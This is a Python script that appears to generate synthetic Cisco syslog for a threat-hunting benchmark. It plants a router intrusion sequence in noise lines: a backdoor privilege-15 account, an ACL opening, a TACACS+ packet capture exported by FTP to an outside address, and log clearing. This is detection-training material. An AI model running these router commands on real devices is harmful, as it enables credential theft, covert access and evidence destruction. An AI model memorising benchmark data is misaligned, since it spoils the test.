#!/usr/bin/env python3
"""Generate realistic device syslog for the log-hunt benchmark.

gen_syslog.py OUT SIZE_MB
Writes Cisco IOS/IOS XE lines as a syslog relay stores them (relay stamp and
address, sequence number, origin-id host name, device stamp with year,
milliseconds and zone) from 400 devices, one line every 0-1 s of a clock
that wraps within one day, and every ~8 MB plants one actor sequence (login
from an advisory address, privilege-15 user, ACL 20 entry, TACACS+ capture,
export, log clearing) on a fresh device name 'planted-NNNN'. Prints the
number of planted sequences.
"""
import random
import sys

out, size_mb = sys.argv[1], int(sys.argv[2])
rnd = random.Random(239)
target = size_mb * 1024 * 1024
hosts = [(f"r{i:03d}-{rnd.choice(['nyc','chi','dal','sea','mia','bos'])}", f"10.{i // 250}.{i % 250}.1") for i in range(400)]
noise = [
    "%LINEPROTO-5-UPDOWN: Line protocol on Interface GigabitEthernet1/0/{p}, changed state to {s}",
    "%LINK-3-UPDOWN: Interface GigabitEthernet1/0/{p}, changed state to {s}",
    "%SEC_LOGIN-5-LOGIN_SUCCESS: Login Success [user: netops] [Source: 10.250.3.{p}] [localport: 22] at {t} UTC Tue Mar 11 2025",
    "%SYS-6-LOGOUT: User netops has exited tty session 2(10.250.3.{p})",
    "%OSPF-5-ADJCHG: Process 1, Nbr 10.255.1.{p} on GigabitEthernet0/0/1 from LOADING to FULL, Loading Done",
    "%BGP-5-ADJCHANGE: neighbor 10.255.1.{p} Up",
    "%SNMP-3-AUTHFAIL: Authentication failure for SNMP req from host 10.250.2.{p}",
    "%NTP-5-PEERSYNC: NTP synced to peer 10.250.1.30",
    "%PARSER-5-CFGLOG_LOGGEDCMD: User:netops  logged command:interface GigabitEthernet1/0/{p}",
    "%PARSER-5-CFGLOG_LOGGEDCMD: User:netops  logged command:description user port {p}",
    "%DOT1X-5-SUCCESS: Authentication successful for client (0011.2233.44{p:02d}) on Interface Gi1/0/{p}",
    "%CDP-4-NATIVE_VLAN_MISMATCH: Native VLAN mismatch discovered on GigabitEthernet1/0/{p} (10), with sw{p} GigabitEthernet0/{p} (20).",
]
plant = [
    "%SEC_LOGIN-5-LOGIN_SUCCESS: Login Success [user: cisco_tac_admin] [Source: 45.61.165.157] [localport: 22022] at {t} UTC Tue Mar 11 2025",
    "%PARSER-5-CFGLOG_LOGGEDCMD: User:cisco_tac_admin  logged command:username svc_sync privilege 15 secret 0 Sync2025!",
    "%PARSER-5-CFGLOG_LOGGEDCMD: User:cisco_tac_admin  logged command:access-list 20 permit 45.61.165.157",
    "%PARSER-5-CFGLOG_LOGGEDCMD: User:cisco_tac_admin  logged command:monitor capture CAP match ipv4 protocol tcp any any eq 49",
    "%HA_EM-6-LOG: catchall: monitor capture CAP export ftp://u1:Pa55@45.61.165.157/tac.pcap",
    "%HA_EM-6-LOG: catchall: clear logging",
]
written = 0
planted = 0
next_plant = 4 * 1024 * 1024
sec = 0
seq = 1000
with open(out, "w") as f:
    buf = []
    while written < target:
        sec += rnd.randrange(0, 2)
        h, ip = hosts[rnd.randrange(len(hosts))]
        hh, mm, ss = (sec // 3600) % 24, (sec // 60) % 60, sec % 60
        t = f"{hh:02d}:{mm:02d}:{ss:02d}"
        seq += 1
        body = rnd.choice(noise).format(p=rnd.randrange(1, 48), s=rnd.choice(["up", "down"]), t=t)
        line = f"Mar 11 {t} {ip} {seq}: {h}: Mar 11 2025 {t}.{rnd.randrange(1000):03d} UTC: {body}\n"
        buf.append(line)
        written += len(line)
        if written >= next_plant:
            dev = f"planted-{planted:04d}"
            for i, b in enumerate(plant):
                pt = f"{hh:02d}:{mm:02d}:{(ss + i) % 60:02d}"
                buf.append(f"Mar 11 {pt} 10.99.0.1 {seq}: {dev}: Mar 11 2025 {pt}.000 UTC: {b.format(t=pt)}\n")
            planted += 1
            next_plant += 8 * 1024 * 1024
        if len(buf) >= 20000:
            f.write("".join(buf))
            buf = []
    f.write("".join(buf))
print(planted)
